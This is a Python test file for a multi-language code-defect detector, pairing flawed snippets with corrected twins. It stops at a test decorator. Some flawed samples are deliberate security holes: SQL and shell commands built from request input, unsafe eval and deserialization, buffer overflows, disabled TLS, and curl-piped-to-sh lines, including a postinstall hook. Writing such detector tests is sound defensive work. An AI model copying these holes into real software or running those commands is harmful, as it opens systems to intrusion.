"""Every rule with what it tells and a twin that is right."""

from __future__ import annotations

import pytest

from guildmoot.agents.parsing.syntax import parse
from guildmoot.agents.rules.judge import RULED, defects, tree_rules
from guildmoot.agents.rules.model import Defect
from guildmoot.grounding.harm import DEFECTS
from guildmoot.text.languages import CHECKED

NAMES = {
    "JavaScript": "a.js", "TypeScript": "a.ts", "TSX": "a.tsx", "Go": "a.go", "Java": "A.java", "Rust": "a.rs",
    "Ruby": "a.rb", "C": "a.c", "C++": "a.cc", "PHP": "a.php", "Shell": "a.sh", "Dockerfile": "Dockerfile",
    "GitHub workflow": ".github/workflows/a.yml", "Terraform": "a.tf", "SQL": "a.sql", "C#": "A.cs", "Kotlin": "a.kt",
    "Swift": "a.swift", "Scala": "a.scala", "Elixir": "a.ex", "Lua": "a.lua", "PowerShell": "a.ps1",
    "JSON": "package.json", "YAML": "a.yaml",
}  # fmt: skip


def go(body: str, head: str = "func f(w http.ResponseWriter, r *http.Request) error") -> str:
    return f"package a\n\n{head} {{\n{body}\nreturn nil\n}}\n"


def java(body: str) -> str:
    return f"class A {{\n  String name;\n  void f(String a, String b) throws Exception {{\n{body}\n  }}\n}}\n"


def c(body: str, head: str = "int f(char *p, int n, char **argv)") -> str:
    return f"{head} {{\n{body}\nreturn 0;\n}}\n"


def workflow(step: str, on: str = "issues", job: str = "") -> str:
    return f"on: {on}\njobs:\n  a:\n{job}    steps:\n      - {step}\n"


def door(port: int, who: str) -> str:
    return (
        f'resource "aws_security_group" "a" {{\n  ingress {{\n    from_port = {port}\n    to_port = {port}\n'
        f'    protocol = "tcp"\n    cidr_blocks = ["{who}"]\n  }}\n}}\n'
    )


def cs(body: str) -> str:
    return f"class A {{\n  void F(string n) {{\n    {body}\n  }}\n}}\n"


def kt(body: str) -> str:
    return f"fun f(n: String) {{\n    {body}\n}}\n"


def swift(body: str) -> str:
    return f"func f(n: String) {{\n    {body}\n}}\n"


def pod(label: str = "a", volume: str = "v", limit: str = "1Gi", context: str = "{}") -> str:
    return (
        "apiVersion: apps/v1\nkind: Deployment\nspec:\n  selector:\n    matchLabels: {app: a}\n  template:\n    metadata:\n"
        f"      labels:\n        app: {label}\n    spec:\n      containers:\n        - name: c\n          securityContext: {context}\n"
        f"          resources: {{requests: {{memory: 512Mi, cpu: 250m}}, limits: {{memory: {limit}}}}}\n"
        f"          volumeMounts: [{{name: {volume}, mountPath: /v}}]\n      volumes: [{{name: v}}]\n"
    )


CASES = [
    ("YAML", pod(label="b"), pod(), "selector-mismatch"),
    ("YAML", pod(label="b"), pod(label="{{ name }}"), "selector-mismatch"),
    ("YAML", pod(volume="w"), pod(), "unknown-volume"),
    ("YAML", pod(limit="256Mi"), pod(limit="0.5Gi"), "request-above-limit"),
    ("YAML", pod(context="{privileged: true}"), pod(context="{privileged: false}"), "privileged-container"),
    ("YAML", "services:\n  a:\n    privileged: true\n", "services:\n  a:\n    privileged: false\n", "privileged-container"),
    ("PHP", "<?php\nif ($done) {\n    header('Location: a.php');\n}\necho page();\n",
     "<?php\nif ($done) {\n    header('Location: a.php');\n    exit;\n}\necho page();\n", "answer-goes-on"),
    ("PHP", "<?php\nheader('Location: a.php');\necho page();\n", "<?php\nheader('Location: a.php');\n", "answer-goes-on"),
    ("Java", java("x = new BigDecimal(y.doubleValue() * 2);"), java("x = new BigDecimal(y.toString());"), "decimal-of-double"),
    ("C#", cs("if (a.B == a.B) { G(); }"), cs("if (a.B == a.C) { G(); }"), "self-comparison"),
    ("C#", cs("try { G(); } catch (Exception e) { }"), cs("try { G(); } catch (Exception e) { Log(e); }"), "empty-catch"),
    ("C#", cs("if (done = true) { G(); }"), cs("if (done == true) { G(); }"), "assigned-condition"),
    ("C#", cs("var c = new SqlCommand(\"SELECT * FROM t WHERE n = '\" + n + \"'\", db);"),
     cs("var c = new SqlCommand(\"SELECT * FROM t WHERE n = @n\", db);"), "sql-by-string"),
    ("C#", cs("c.CommandText = $\"DELETE FROM t WHERE n = {n}\";"), cs("c.CommandText = \"DELETE FROM t\";"), "sql-by-string"),
    ("C#", cs("Process.Start(\"tar xf \" + n);"), cs("Process.Start(\"tar\");"), "shell-by-string"),
    ("Kotlin", kt("if (a.b == a.b) g()"), kt("if (a.b == a.c) g()"), "self-comparison"),
    ("Kotlin", kt("try { g() } catch (e: Exception) { }"), kt("try { g() } catch (e: Exception) { log(e) }"), "empty-catch"),
    ("Kotlin", kt("st.executeQuery(\"SELECT * FROM t WHERE n = '$n'\")"), kt("st.executeQuery(\"SELECT * FROM t WHERE n = ?\")"), "sql-by-string"),
    ("Kotlin", kt("Runtime.getRuntime().exec(\"tar xf \" + n)"), kt("Runtime.getRuntime().exec(\"ls\")"), "shell-by-string"),
    ("Swift", swift("if a.b == a.b { g() }"), swift("if a.b == a.c { g() }"), "self-comparison"),
    ("Swift", swift("do { try g() } catch { }"), swift("do { try g() } catch { log(error) }"), "empty-catch"),
    ("Swift", swift("db.execute(\"SELECT * FROM t WHERE n = \\(n)\")"), swift("db.execute(\"SELECT * FROM t WHERE n = ?\")"), "sql-by-string"),
    ("Scala", "def f(n: Int) = { if (a == a) g() }\n", "def f(n: Int) = { if (a == b) g() }\n", "self-comparison"),
    ("Scala", 'def f(n: String) = st.executeQuery(s"SELECT * FROM t WHERE n = $n")\n', 'def f(n: String) = st.executeQuery("SELECT 1")\n', "sql-by-string"),
    ("Elixir", "if a == a do\n  g()\nend\n", "if a == b do\n  g()\nend\n", "self-comparison"),
    ("Elixir", 'Repo.query("SELECT * FROM t WHERE n = #{n}")\n', 'Repo.query("SELECT * FROM t WHERE n = $1", [n])\n', "sql-by-string"),
    ("Elixir", ':os.cmd("ls #{n}")\n', ':os.cmd("ls")\n', "shell-by-string"),
    ("Elixir", "Code.eval_string(n)\n", 'Code.eval_string("1 + 1")\n', "eval-of-values"),
    ("Lua", "if a.b == a.b then g() end\n", "if a.b == a.c then g() end\n", "self-comparison"),
    ("Lua", 'os.execute("rm " .. n)\n', 'os.execute("ls")\n', "shell-by-string"),
    ("Lua", 'conn:execute("SELECT * FROM t WHERE n = " .. n)\n', 'conn:execute("SELECT 1 FROM t")\n', "sql-by-string"),
    ("Lua", "load(n)()\n", 'load("return 1")()\n', "eval-of-values"),
    ("PowerShell", "if ($a -eq $a) { G }\n", "if ($a -eq $b) { G }\n", "self-comparison"),
    ("PowerShell", "try { G } catch { }\n", "try { G } catch { Write-Error $_ }\n", "empty-catch"),
    ("PowerShell", 'Invoke-Expression "ls $n"\n', "Get-ChildItem $n\n", "eval-of-values"),
    ("JavaScript", "if (a == 'x' && a == 'y') { f() }", "if (a == 'x' || a == 'y') { f() }", "never-true"),
    ("JavaScript", "const q = h >= 22 && h < 7", "const q = h >= 7 && h < 22", "never-true"),
    ("Go", go("if n > 9 && n < 3 { return nil }"), go("if n > 3 && n < 9 { return nil }"), "never-true"),
    ("Rust", "fn f(a: i32) -> bool { a == 1 && a == 2 }", "fn f(a: i32) -> bool { a == 1 || a == 2 }", "never-true"),
    ("Ruby", "x if a == 1 && a == 2\n", "x if a == 1 || a == 2\n", "never-true"),
    ("Java", java("if (n != 1 || n != 2) { g(); }"), java("if (n != 1 && n != 2) { g(); }"), "always-true"),
    ("C", c("if (n != 'a' || n != 'b') g();"), c("if (n != 'a' && n != 'b') g();"), "always-true"),
    ("PHP", "<?php if ($a == 1 || 2) { f(); }", "<?php if ($a == 1 || $a == 2) { f(); }", "always-true"),
    ("Ruby", "if a == 1 || 2\n  x\nend\n", "if a == 1 || a == 2\n  x\nend\n", "always-true"),
    ("TypeScript", "f(a.b === a.b)", "f(a.b === a.c)", "self-comparison"),
    ("C++", c("if (x.a < x.a) g();"), c("if (x.a < y.a) g();"), "self-comparison"),
    ("JavaScript", "if (a = 1) {}", "if (a === 1) {}", "assigned-condition"),
    ("C", c("if (n = 1) g();"), c("if ((n = g())) g();"), "assigned-condition"),
    ("PHP", "<?php if ($a = 1) { f(); }", "<?php if ($a = f()) { g(); }", "assigned-condition"),
    ("Ruby", "if a = 1\n  x\nend\n", "if a = b\n  x\nend\n", "assigned-condition"),
    ("Go", go("if a { g() } else if a { h() }"), go("if a { g() } else if b { h() }"), "asked-twice"),
    ("JavaScript", "if (a) { g() } else if (b) { h() } else if (a) { i() }", "if (g()) { a() } else if (g()) { h() }", "asked-twice"),
    ("Rust", "fn f() { if a { g() } else if a { h() } }", "fn f() { if a { g() } else if b { h() } }", "asked-twice"),
    ("JavaScript", "function f() { return 1; g(); }", "function f() { return g(); function g() {} }", "unreachable"),
    ("PHP", "<?php function f() { return 1; g(); }", "<?php function f() { g(); return 1; }", "unreachable"),
    ("C", c("switch (n) { case 1: x = 1; case 2: x = 2; break; }"), c("switch (n) { case 1: x = 1; break; case 2: x = 2; break; }"), "missing-break"),
    ("Java", java("switch (n) { case 1: x = 1; case 2: x = 2; break; }"), java("switch (n) { case 1: x = 1; /* falls through */ case 2: x = x + 2; break; }"), "missing-break"),
    ("Java", java("try { g(); } catch (E e) {}"), java("try { g(); } catch (E e) { log(e); }"), "empty-catch"),
    ("Java", java("try { g(); } catch (E e) {}"), java("try { g(); } catch (E expected) {}"), "empty-catch"),
    ("JavaScript", "try { g() } catch (e) {}", "try { g() } catch (e) { /* gone already */ }", "empty-catch"),
    ("Ruby", "begin\n  f\nrescue E\nend\n", "begin\n  f\nrescue E\n  nil\nend\n", "empty-catch"),
    ("Java", java("try { g(); } finally { return; }"), java("try { g(); } finally { h(); }"), "finally-returns"),
    ("C", c("if (n);\n{ g(); }"), c("if (n)\n{ g(); }"), "stray-semicolon"),
    ("JavaScript", "function f() { a == b; }", "function f() { a = b; }", "no-effect"),
    ("Java", "class A { String name; A(String name) { name = name; } }", "class A { String name; A(String name) { this.name = name; } }", "set-to-itself"),
    ("TypeScript", "switch (a) { case 1: f(); break; case 1: g(); }", "switch (a) { case 1: f(); break; case 2: g(); }", "same-case"),
    ("JavaScript", "f({a: 1, a: 2})", "f({a: 1, ...b, a: 2, '\"': 1, \"'\": 2})", "same-key"),
    ("JavaScript", "function f() { new Error('x'); }", "function f() { throw new Error('x'); }", "error-not-thrown"),
    ("Java", java('new IllegalStateException("x");'), java('throw new IllegalStateException("x");'), "error-not-thrown"),
    ("Go", go("mu.Lock()\nif a { return x }\nmu.Unlock()"), go("mu.Lock()\nif a { mu.Unlock()\nreturn x }\nmu.Unlock()"), "lock-kept"),
    ("Go", go("s.mu.RLock()\nif a { return x }\ns.mu.RUnlock()"), go("s.mu.RLock()\ndefer s.mu.RUnlock()\nif a { return x }"), "lock-kept"),
    ("C", c("pthread_mutex_lock(&m);\nif (n) return 1;\npthread_mutex_unlock(&m);"), c("pthread_mutex_lock(&m);\nif (n) { pthread_mutex_unlock(&m); return 1; }\npthread_mutex_unlock(&m);"), "lock-kept"),
    ("Java", java("lock.lock();\ng();\nlock.unlock();"), java("lock.lock();\ntry { g(); } finally { lock.unlock(); }"), "lock-kept"),
    ("Ruby", "def f\n  @mutex.lock\n  g()\n  @mutex.unlock\nend\n", "def f\n  @mutex.synchronize { g() }\nend\n", "lock-kept"),
    ("Ruby", "begin\n  f\nrescue Exception\n  g\nend\n", "begin\n  f\nrescue Exception\n  g\n  raise\nend\n", "rescues-everything"),
    ("JavaScript", "f(!a in b)", "f(!(a in b))", "negated-part"),
    ("TypeScript", "f(typeof a === 'strnig')", "f(typeof a === 'string')", "unknown-type"),
    ("TypeScript", "f(a === NaN)", "f(Number.isNaN(a))", "compared-with-nan"),
    ("JavaScript", "const a = list.filter(async (x) => await ok(x))", "const a = list.filter((x) => ok(x))", "promise-as-answer"),
    ("JavaScript", "async function f() { list.forEach(async (x) => { await g(x) }) }", "async function f() { for (const x of list) await g(x) }", "promise-dropped"),
    ("JavaScript", "new Promise(async (done) => { done(await f()) })", "new Promise((done) => { f().then(done) })", "async-executor"),
    ("JavaScript", "for (var i = 0; i < 3; i++) { setTimeout(function () { f(i) }, 1) }", "for (let i = 0; i < 3; i++) { setTimeout(function () { f(i) }, 1) }", "captured-loop-variable"),
    ("JavaScript", "if (a.indexOf(b)) { f() }", "if (a.indexOf(b) >= 0) { f() }", "index-as-answer"),
    ("JavaScript", "const a = list.filter((x) => { x > 1 })", "const a = list.filter((x) => { return x > 1 })", "nothing-returned"),
    ("JavaScript", "db.query(`SELECT a FROM b WHERE c = '${name}'`)", "db.query(`SELECT a FROM ${TABLE} WHERE c = ?`, [name])", "sql-by-string"),
    ("TypeScript", "db.query('SELECT a FROM b WHERE c = ' + name)", "db.query(sql`SELECT a FROM b WHERE c = ${name}`)", "sql-by-string"),
    ("JavaScript", "db.query(`SELECT ${req.query.a}`)", "db.query('SELECT ?', [req.query.a])", "sql-from-input"),
    ("JavaScript", "exec('ls ' + req.body.a)", "execFile('ls', [req.body.a])", "shell-from-input"),
    ("JavaScript", "function f(name) { execSync(`rm ${name}`) }", "function f(name) { execFileSync('rm', [name]) }", "shell-by-string"),
    ("JavaScript", "eval(req.query.a)", "JSON.parse(req.query.a)", "eval-of-input"),
    ("TypeScript", "async function f() { const c = await pool.connect(); await c.query('x'); c.release() }", "async function f() { const c = await pool.connect(); try { await c.query('x') } finally { c.release() } }", "client-not-released"),
    ("JavaScript", "f({ rejectUnauthorized: false })", "f({ rejectUnauthorized: true })", "tls-off"),
    ("Go", go("a, err := g()\nb, err := h()\nif err != nil { return err }"), go("a, err := g()\nif err != nil { return err }\nb, err := h()\nif err != nil { return err }"), "error-overwritten"),
    ("Go", go("json.Unmarshal(b, &v)"), go("if err := json.Unmarshal(b, &v); err != nil { return err }"), "error-dropped"),
    ("Go", go("x, _ := os.ReadFile(p)\nuse(x)"), go("x, err := os.ReadFile(p)\nif err != nil { return err }\nuse(x)"), "error-dropped"),
    ("Go", go("resp, err := c.Do(q)\ndefer resp.Body.Close()\nif err != nil { return err }"), go("resp, err := c.Do(q)\nif err != nil { return err }\ndefer resp.Body.Close()"), "deferred-before-check"),
    ("Go", go('if bad {\nhttp.Error(w, "no", 400)\n}\nw.Write(x)'), go('if bad {\nhttp.Error(w, "no", 400)\nreturn nil\n}\nw.Write(x)'), "answer-goes-on"),
    ("Go", go("go func() {\nwg.Add(1)\nwork()\n}()"), go("wg.Add(1)\ngo func() {\nwork()\n}()"), "counted-too-late"),
    ("Go", go("x, err := os.Open(p)\nif err != nil { return err }\nio.Copy(w, x)"), go("x, err := os.Open(p)\nif err != nil { return err }\ndefer x.Close()\nio.Copy(w, x)"), "left-open"),
    ("Go", go("db.Query(fmt.Sprintf(\"SELECT a FROM b WHERE c = '%s'\", n))"), go('db.Query("SELECT a FROM b WHERE c = ?", n)'), "sql-by-string"),
    ("Go", go('db.Query("SELECT a FROM b WHERE c = " + r.FormValue("c"))'), go('db.Query("SELECT a FROM b WHERE c = ?", r.FormValue("c"))'), "sql-from-input"),
    ("Go", go('exec.Command("sh", "-c", "ls " + d).Run()'), go('exec.Command("ls", d).Run()'), "shell-by-string"),
    ("Go", go("s := &http.Server{Addr: a, Handler: h}\nuse(s)"), go("s := &http.Server{Addr: a, Handler: h, ReadHeaderTimeout: t}\nuse(s)"), "slow-senders"),
    ("Go", go("x := l[len(l)]\nuse(x)"), go("x := l[len(l)-1]\nuse(x, l[len(l):])"), "past-the-end"),
    ("Java", java("g(l[l.length]);"), java("g(l[l.length - 1]);"), "past-the-end"),
    ("Rust", "fn f() { g(l[l.len()]) }", "fn f() { g(l[l.len() - 1]) }", "past-the-end"),
    ("JavaScript", "f(l[l.length])", "l[l.length] = 1", "past-the-end"),
    ("JavaScript", "const A = 22\nconst B = 7\nf(h >= A && h < B)", "const A = 22\nconst B = 7\nf(h >= B && h < A)", "never-true"),
    ("TypeScript", "async function f() { await query<T>(`SELECT a FROM b WHERE c = '${d}'`, []) }", "async function f() { await query<T>(`SELECT a FROM b WHERE c = $1`, [d]) }", "sql-by-string"),
    ("Java", java('String q = "SELECT a FROM b" + " WHERE c = \'" + a + "\'"; s.executeQuery(q);'), java('String q = "SELECT a FROM b" + " WHERE c = ?"; s.executeQuery(q);'), "sql-by-string"),
    ("Ruby", "A.execute(\"#{HEAD} WHERE b = '#{name}'\")", 'A.execute("#{HEAD} WHERE b = ?", name)', "sql-by-string"),
    ("Ruby", 'def f(name)\n  system("rm #{name}")\nend\n', 'def f(name)\n  system("rm", name)\nend\n', "shell-by-string"),
    ("Go", go("x, err := os.Create(p)\nif err != nil { return err }\nx.Close()\nreturn os.Rename(p, q)"), go("x, err := os.Create(p)\nif err != nil { return err }\nif err := x.Close(); err != nil { return err }\nreturn os.Rename(p, q)"), "error-dropped"),
    ("C", c("printf(line);", "int f(const char *line)"), c("printf(fmt);", "int f(const char *fmt)"), "format-from-variable"),
    ("GitHub workflow", workflow("run: a", job="    outputs:\n      c: ${{ steps.b.outputs.c }}\n"), workflow("run: a\n        id: b", job="    outputs:\n      c: ${{ steps.b.outputs.c }}\n"), "unknown-step"),
    ("Go", go("c := &tls.Config{InsecureSkipVerify: true}\nuse(c)"), go("c := &tls.Config{}\nuse(c)"), "tls-off"),
    ("Java", java('if (a == "b") { g(); }'), java('if (a.equals("b")) { g(); }'), "string-identity"),
    ("Java", java("if (a == b) { g(); }"), java("if (a == null) { g(); }"), "string-identity"),
    ("Java", java("a.trim();"), java("g(a.trim());"), "result-unused"),
    ("Java", java("new Thread(r).run();"), java("new Thread(r).start();"), "thread-not-started"),
    ("Java", java("g(new BigDecimal(0.1));"), java('g(new BigDecimal("0.1"));'), "decimal-of-double"),
    ("Java", java('s.executeQuery("SELECT a FROM b WHERE c = \'" + a + "\'");'), java('s.executeQuery("SELECT a FROM b WHERE c = " + MAX);'), "sql-by-string"),
    ("Java", java('String q = "SELECT a FROM b WHERE c = " + a; s.executeQuery(q);'), java('String q = "SELECT a FROM b WHERE c = " + a; log(q);'), "sql-by-string"),
    ("Java", java("FileReader r = new FileReader(a); r.read();"), java("try (FileReader r = new FileReader(a)) { r.read(); }"), "left-open"),
    ("Java", "class A { public boolean equals(Object o) { return true; } }", "class A { public boolean equals(Object o) { return true; } public int hashCode() { return 1; } }", "equals-without-hash"),
    ("C", c("char b[9]; gets(b);"), c("char b[9]; fgets(b, sizeof(b), stdin);"), "unbounded-copy"),
    ("C", c('char b[9]; scanf("%s", b);'), c('char b[9]; scanf("%8s", b);'), "unbounded-copy"),
    ("C", c("char b[9]; strcpy(b, argv[1]);"), c('char b[9]; snprintf(b, sizeof(b), "%s", argv[1]);'), "unbounded-copy"),
    ("C", c("char b[9]; fgets(b, 9, stdin); printf(b);"), c('char b[9]; fgets(b, 9, stdin); printf("%s", b);'), "format-from-input"),
    ("C", c("memset(p, 0, sizeof(p));"), c("char b[9]; memset(b, 0, sizeof(b));"), "size-of-pointer"),
    ("C", c("memset(p, n, 0);"), c("memset(p, 0, n);"), "swapped-size"),
    ("C", "char *f(void) { char b[9]; return b; }\n", "char *f(void) { static char b[9]; return b; }\n", "local-returned"),
    ("C", c("free(q); q->next = 0;"), c("free(q); q = 0;"), "used-after-free"),
    ("C", c("free(q); q = q->next;"), c("t = q->next; free(q); q = t;"), "used-after-free"),
    ("C", c('if (p == "x") g();'), c('if (strcmp(p, "x") == 0) g();'), "text-compared"),
    ("C++", "void f() { int *p = new int[3]; delete p; }", "void f() { int *p = new int[3]; delete[] p; }", "wrong-delete"),
    ("C", c("char k; while ((k = getchar()) != EOF) g();"), c("int k; while ((k = getchar()) != EOF) g();"), "narrow-end"),
    ("C", c('char b[99]; sprintf(b, "ls %d", n); system(argv[1]);'), c('system("ls");'), "shell-from-input"),
    ("Rust", "fn f() { let _ = m.lock().unwrap(); g(); }", "fn f() { let _guard = m.lock().unwrap(); g(); }", "lock-let-go"),
    ("Rust", "async fn f() { let g = m.lock().unwrap(); h().await; }", "async fn f() { let g = m.lock().unwrap(); drop(g); h().await; }", "lock-over-await"),
    ("Rust", "async fn f() { std::thread::sleep(d); }", "fn f() { std::thread::sleep(d); }", "blocks-the-runtime"),
    ("Rust", "fn f() { for i in 9..0 { g(i); } }", "fn f() { for i in 0..9 { g(i); } }", "empty-range"),
    ("Rust", "use std::io::Read;\nfn f() -> R { r.read(&mut b)?; g() }", "use std::io::Read;\nfn f() -> R { r.read_exact(&mut b)?; g() }", "amount-unused"),
    ("Rust", "fn f() { db.execute(&format!(\"DELETE FROM a WHERE b = '{}'\", n)); }", 'fn f() { db.execute("DELETE FROM a WHERE b = ?", n); }', "sql-by-string"),
    ("Rust", 'fn f() { Command::new("sh").arg("-c").arg(format!("ls {}", d)).status(); }', 'fn f() { Command::new("ls").arg(d).status(); }', "shell-by-string"),
    ("Rust", "fn f() { b.danger_accept_invalid_certs(true); }", "fn f() { b.danger_accept_invalid_certs(false); }", "tls-off"),
    ("Rust", "fn f() { let x = unsafe { mem::uninitialized() }; g(x) }", "fn f() { let x = MaybeUninit::uninit(); g(x) }", "no-value"),
    ("Rust", "fn f() { todo!() }", "fn f() { g() }", "forgotten-macro"),
    ("PHP", "<?php $db->query(\"SELECT a FROM b WHERE c = '\" . $_GET['c'] . \"'\");", "<?php $db->query('SELECT a FROM b');", "sql-from-input"),
    ("PHP", '<?php $d->query("SELECT " . $_GET["a"]);', '<?php $d->query($d->prepare("UPDATE {$d->t} SET a = %s", $_POST["a"]));', "sql-from-input"),
    ("PHP", "<?php $db->query(\"SELECT a FROM b WHERE c = '$c'\");", "<?php $db->prepare('SELECT a FROM b WHERE c = ?');", "sql-by-string"),
    ("PHP", "<?php system('ls ' . $_GET['a']);", "<?php system('ls ' . escapeshellarg($_GET['a']));", "shell-from-input"),
    ("PHP", "<?php $a = unserialize($_COOKIE['a']);", "<?php $a = json_decode($_COOKIE['a']);", "eval-of-input"),
    ("PHP", "<?php readfile('x/' . $_GET['a']);", "<?php readfile('x/' . basename($_GET['a']));", "file-from-input"),
    ("PHP", "<?php include 'x/' . $_GET['a'];", "<?php include 'x/a.php';", "include-of-input"),
    ("PHP", "<?php echo 'Hi ' . $_GET['a'];", "<?php echo 'Hi ' . htmlspecialchars($_GET['a']);", "page-from-input"),
    ("PHP", "<?php if (strpos($a, $b)) { f(); }", "<?php if (strpos($a, $b) !== false) { f(); }", "index-as-answer"),
    ("PHP", "<?php if (strpos($a, $b) == false) { f(); }", "<?php if (strpos($a, $b) === false) { f(); }", "index-as-answer"),
    ("PHP", "<?php if (md5($a) == $b) { f(); }", "<?php if (hash_equals(md5($a), $b)) { f(); }", "loose-hash"),
    ("Ruby", "A.where(\"b = '#{name}'\")", 'A.where("b = ?", name)', "sql-by-string"),
    ("Ruby", 'A.order("#{params[:a]} desc")', "A.order(:a)", "sql-from-input"),
    ("Ruby", 'system("ls #{params[:a]}")', 'system("ls", params[:a])', "shell-from-input"),
    ("Ruby", "Marshal.load(params[:a])", "JSON.parse(params[:a])", "eval-of-input"),
    ("Shell", "sort a.txt > a.txt\n", "sort a.txt > b.txt\n", "emptied-before-read"),
    ("Shell", "if [[ $n > 10 ]]; then f; fi\n", "if [[ $n -gt 10 ]]; then f; fi\n", "compared-as-text"),
    ("Shell", 'if [ "$a"=b ]; then f; fi\n', 'if [ "$a" = b ]; then f; fi\n', "always-true"),
    ("Shell", 'cd "$d"\nrm -rf *\n', 'cd "$d" || exit 1\nrm -rf *\n', "removes-elsewhere"),
    ("Shell", 'eval "tar $1"\n', 'tar "$1"\n', "eval-of-arguments"),
    ("Shell", 'eval "tar -C $folder ."\n', 'tar -C "$folder" .\n', "eval-of-values"),
    ("JSON", '{"scripts": {"postinstall": "curl -s https://a.example/x | sh"}}\n', '{"scripts": {"postinstall": "husky"}}\n', "runs-at-install"),
    ("Shell", "curl -k https://example.org\n", "curl https://example.org\n", "tls-off"),
    ("Shell", "chmod 777 a\n", "chmod 755 a\n", "open-to-all"),
    ("Shell", "find . -delete -name a\n", "find . -name a -delete\n", "deletes-first"),
    ("Shell", "sudo echo a > /etc/b\n", "echo a | sudo tee /etc/b\n", "not-privileged"),
    ("Shell", "curl http://example.org/a | sh\n", "curl https://example.org/a | sh\n", "piped-to-shell"),
    ("Shell", "rm -rf $a/\n", "rm -rf ${a:?}/\n", "removes-root"),
    ("Dockerfile", "FROM a:1\nENV API_KEY=abcdefgh\n", "FROM a:1\nENV API_KEY=$KEY\n", "secret-in-image"),
    ("Dockerfile", "FROM a:latest\n", "FROM a:1 AS b\nFROM b\n", "floating-image"),
    ("Dockerfile", 'FROM a:1\nCMD ["b"]\n', 'FROM a:1\nUSER c\nCMD ["b"]\n', "runs-as-root"),
    ("Dockerfile", "FROM a:1\nUSER c\nCMD ['b']\n", 'FROM a:1\nUSER c\nCMD ["b"]\n', "quotes"),
    ("Dockerfile", "FROM a:1\nUSER c\nCMD b\nCMD c\n", "FROM a:1\nUSER c\nCMD c\n", "overwritten"),
    ("Dockerfile", "FROM a:1\nRUN cd /b\n", "FROM a:1\nRUN cd /b && make\n", "no-effect"),
    ("Dockerfile", "FROM a:1\nRUN apt-get update && apt-get install \\\n  b\n", "FROM a:1\nRUN apt-get update && apt-get install -y \\\n  b\n", "asks-nobody"),
    ("Dockerfile", "FROM a:1 AS fetcher\nUSER c\nFROM a:1\nCOPY --from=fetch /b /b\n", "FROM a:1 AS fetch\nUSER c\nFROM a:1\nCOPY --from=fetch /b /b\nCOPY --from=0 /b /c\nCOPY --from=busybox /b /d\n", "unknown-stage"),
    ("Dockerfile", "FROM a:1 AS gather\nUSER c\nRUN --mount=type=bind,from=gathr,target=/x make\n", "FROM a:1 AS gather\nUSER c\nRUN --mount=type=bind,target=/x,from=gather make\nCOPY --from=$KIND /a /b\n", "unknown-stage"),
    ("GitHub workflow", workflow("run: a", job="    need: b\n"), workflow("run: a", job="    needs: []\n    timeout-minutes: 3\n"), "unknown-key"),
    ("GitHub workflow", workflow("rnu: a"), workflow("run: a\n        shell: bash\n        working-directory: b"), "unknown-key"),
    ("GitHub workflow", workflow("run: a ${{ env.B }"), workflow("run: a ${{ env.B }} ${{ '}' }}"), "unclosed-expression"),
    ("GitHub workflow", workflow("run: |\n          echo ${{ github.event.issue.title }}"), workflow("run: echo\n        env:\n          T: ${{ github.event.issue.title }}"), "script-injection"),
    ("GitHub workflow", workflow("uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}", "pull_request_target"), workflow("uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}", "pull_request"), "untrusted-checkout"),
    ("GitHub workflow", workflow("run: a", job="    needs: b\n"), workflow("run: a") + "  c:\n    needs: A\n    steps: []\n", "unknown-job"),
    ("GitHub workflow", workflow("run: echo ${{ steps.b.outputs.c }}"), workflow("run: echo ${{ steps.b.outputs.c }}\n        id: b"), "unknown-step"),
    ("GitHub workflow", workflow("run: a", job="    if: ${{ github.ref == 'x' }} && true\n"), workflow("run: a", job="    if: github.ref == 'x' && true\n"), "always-true"),
    ("GitHub workflow", workflow("run: a", job="    if: contains('refs/heads/main', github.ref)\n"), workflow("run: a", job="    if: github.ref == 'refs/heads/main'\n"), "part-of-name"),
    ("Terraform", door(22, "0.0.0.0/0"), door(22, "10.0.0.0/8"), "open-to-all"),
    ("Terraform", door(5432, "0.0.0.0/0"), door(443, "0.0.0.0/0"), "open-to-all"),
    ("Terraform", 'resource "aws_s3_bucket" "a" {\n  acl = "public-read-write"\n}\n', 'resource "aws_s3_bucket" "a" {\n  acl = "private"\n}\n', "public-bucket"),
    ("Terraform", 'resource "aws_db_instance" "a" {\n  publicly_accessible = true\n}\n', 'resource "aws_db_instance" "a" {\n  publicly_accessible = false\n}\n', "public-database"),
    ("Terraform", 'data "aws_iam_policy_document" "a" {\n  statement {\n    actions = ["*"]\n    resources = ["*"]\n  }\n}\n', 'data "aws_iam_policy_document" "a" {\n  statement {\n    actions = ["s3:Get"]\n    resources = ["*"]\n  }\n}\n', "everything-allowed"),
    ("Terraform", 'resource "a" "b" {\n  password = "abcd1234"\n}\n', 'resource "a" "b" {\n  password = var.password\n}\n', "password-in-text"),
    ("Terraform", 'variable "a" {}\nvariable "a" {}\n', 'variable "a" {}\nvariable "b" {}\n', "declared-twice"),
    ("SQL", "DELETE FROM a;", "DELETE FROM a WHERE b = 1;", "without-where"),
    ("SQL", "UPDATE a SET b = 1;", "UPDATE a SET b = 1 -- all\nWHERE c = 2;", "without-where"),
    ("SQL", "SELECT a FROM b WHERE c = NULL;", "UPDATE b SET c = NULL WHERE d IS NULL;", "compared-with-null"),
    ("SQL", "INSERT INTO a (b, c) VALUES (1, 2, 3);", "INSERT INTO a (b, c) VALUES (1, f(2, 3)), ('x;,', 4);", "values-do-not-fit"),
    ("SQL", "ALTER TABLE a ADD COLUMN b integer NOT NULL;", "ALTER TABLE a ADD COLUMN b integer NOT NULL DEFAULT 0;", "not-null-without-default"),
    ("SQL", "ALTER TABLE a ADD b integer, ADD COLUMN c text NOT NULL;", "ALTER TABLE a ADD CONSTRAINT c CHECK (b IS NOT NULL);", "not-null-without-default"),
    ("SQL", "UPDATE a SET b = 1 WHERE c = NULL;", "UPDATE a SET b = NULL, c = d AND e, f = NULL WHERE g = 1;", "compared-with-null"),
    ("SQL", "GRANT ALL ON a TO PUBLIC;", "GRANT SELECT ON a TO b;", "open-to-all"),
    ("SQL", "CREATE TABLE a (\n  price float\n);", "CREATE TABLE a (\n  price numeric(10, 2)\n);", "float-money"),
    ("SQL", "CREATE TABLE a (\n  b timestamptz,\n  c timestamp\n);", "CREATE TABLE a (\n  b timestamptz,\n  c timestamptz\n);", "time-without-zone"),
]  # fmt: skip


def found(language: str, text: str) -> list[Defect]:
    parsed = parse(language, NAMES[language], text.encode())
    assert parsed.fault is None or not parsed.fault.sure, parsed.fault
    return defects(language, NAMES[language], text.encode(), parsed.tree)


@pytest.mark.parametrize(("language", "bad", "good", "code"), CASES)
